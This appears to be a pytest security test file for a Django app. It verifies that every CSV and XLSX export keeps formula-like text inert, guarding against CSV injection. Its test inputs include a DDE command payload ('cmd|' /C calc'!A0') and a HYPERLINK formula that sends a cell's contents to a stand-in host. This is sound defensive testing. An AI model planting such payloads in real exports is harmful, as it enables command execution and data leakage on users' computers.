"""No export hands a spreadsheet a formula: every text cell of every CSV and XLSX export stays
text (OWASP "CSV injection").

A formula goes into every text field of every project model (tests/security/payloads.py),
each field starting with another of the starts a spreadsheet reads as a formula. Then every
page of the URL registry is asked for its exports (``?format=csv``, ``?format=xlsx`` and the
export links the page shows), as every role the permission matrix lets in, and every cell
of every export is checked.
"""

import csv
import html
import io
import re
from urllib.parse import urljoin

import pytest
from django.urls import reverse
from django.utils.functional import lazystr
from openpyxl import load_workbook

from cus.exports import FORMULA_STARTS, XLSX, csv_response, looks_like_formula, workbook_bytes
from tests.security import permission_matrix as pm
from tests.security.payloads import fill_text_fields
from tests.security.test_permission_matrix import catalogue_world

# Leading blanks do not hide a start.
STARTS = (*FORMULA_STARTS, " =", "\u3000=", "\u00a0+")
EXPORT_LINK = re.compile(r'href="([^"]*(?:format=(?:csv|xlsx)|\.xlsx|\.csv)[^"]*)"')
# Exports that must be found on the pages: the walk below cannot silently miss them all.
KNOWN_EXPORTS = {
    "catalogue:list",
    "services:service-list",
    "cus:accesslog-list",
    "osl:schedule-xlsx",
    "osl:activity-list",
    "ipus:quarter-review",
    "ipus:indicators",
}
# Exports whose columns hold no text a user typed (numbers and our own labels only).
NO_TYPED_TEXT = {"ipus:indicators"}


class Named:
    """A model instance in a row: its text is what the cell shows."""

    def __init__(self, text):
        self.text = text

    def __str__(self):
        return self.text


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


OOXML_ESCAPE = re.compile(r"_x([0-9A-F]{4})_")


@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_a_cell_that_starts_like_a_formula_stays_text_in_both_formats(start):
    text = f"{start}cmd|' /C calc'!A0"
    row = [text, lazystr(text), Named(text)]
    assert _csv_rows(csv_response("x", ["a", "b", "c"], [row]))[1] == [f"'{text}"] * 3
    sheet = load_workbook(io.BytesIO(workbook_bytes([("S", ["a", "b", "c"], [row])]))).active
    for cell in sheet[2]:
        # Excel's quote prefix: shown and edited as text, the value unchanged (a control
        # character is stored escaped as OOXML says, "_x000D_", which Excel reads back).
        value = OOXML_ESCAPE.sub(lambda m: chr(int(m[1], 16)), cell.value)
        assert (value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_ordinary_text_and_numbers_are_written_as_they_are():
    from decimal import Decimal

    row = ["Zażółć", "a-b", Decimal("-4.5"), -3]
    assert _csv_rows(csv_response("x", list("abcd"), [row]))[1] == ["Zażółć", "a-b", "-4,5", "-3"]
    sheet = load_workbook(io.BytesIO(workbook_bytes([("S", list("abcd"), [row])]))).active
    # Numbers are number cells (issue 23: a spreadsheet sums them), Decimals included.
    assert [cell.value for cell in sheet[2]] == ["Zażółć", "a-b", -4.5, -3]
    assert [cell.quotePrefix for cell in sheet[2]][:2] == [False, False]


def formula(index, room):
    """The payload of the ``index``-th text field: another start each time."""
    start = FORMULA_STARTS[index % len(FORMULA_STARTS)]
    text = f'{start}HYPERLINK("https://x.invalid/?"&A1;"fx")'
    if room is None or room >= len(text):
        return text
    short = f"{start}1+1"
    return short if room >= len(short) else None


def export_cells(response):
    """Every cell of a CSV or XLSX response as (text, inert?)."""
    if response["Content-Type"].startswith("text/csv"):
        for row in _csv_rows(response):
            for cell in row:
                yield cell, not looks_like_formula(cell)
        return
    workbook = load_workbook(io.BytesIO(response.content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    inert = cell.data_type == "s" and (
                        cell.quotePrefix or not looks_like_formula(cell.value)
                    )
                    yield cell.value, inert
                elif cell.data_type == "f":
                    yield str(cell.value), False


def is_export(response):
    kind = response.get("Content-Type", "")
    return response.status_code == 200 and (kind.startswith("text/csv") or kind == XLSX)


def find_exports(client, people, world):
    """{export URL: URL name}, from every page of the matrix as its first allowed role."""
    found = {}
    for name, row in pm.MATRIX.items():
        allowed = [role for role in pm.ROLES if row[role] == pm.OK]
        if not allowed:
            continue
        login(client, people, allowed[0])
        url = reverse(name, args=pm.URL_ARGS[name](world) if name in pm.URL_ARGS else [])
        response = client.get(url)
        if is_export(response):
            found[url] = name
            continue
        candidates = [f"{url}?format=csv", f"{url}?format=xlsx"]
        if response.get("Content-Type", "").startswith("text/html"):
            links = EXPORT_LINK.findall(response.content.decode())
            candidates += [urljoin(url, html.unescape(link)) for link in links]
        for candidate in dict.fromkeys(candidates):
            if candidate not in found and is_export(client.get(candidate)):
                found[candidate] = name
    return found


def login(client, people, role):
    if role == pm.ANONYMOUS:
        client.logout()
    else:
        client.force_login(people[role])


def test_every_export_writes_every_typed_text_as_text(client, people):
    world = catalogue_world(people)
    filled = fill_text_fields(formula)
    assert len(filled) > 100
    exports = find_exports(client, people, world)
    names = set(exports.values())
    assert names >= KNOWN_EXPORTS, f"exports not found: {KNOWN_EXPORTS - names}"
    live, carried = [], {}
    for url, name in exports.items():
        for role in [role for role in pm.ROLES if pm.MATRIX[name][role] == pm.OK]:
            login(client, people, role)
            response = client.get(url)
            assert is_export(response), f"{url} as {role}"
            for text, inert in export_cells(response):
                if not inert:
                    live.append(f"{url} as {role}: {text[:40]!r}")
                elif looks_like_formula(text.removeprefix("'")):
                    carried[name] = carried.get(name, 0) + 1
    assert not live, "formulas a spreadsheet would run:\n" + "\n".join(live[:20])
    assert set(names) - NO_TYPED_TEXT <= set(carried), "exports that carried no typed text"
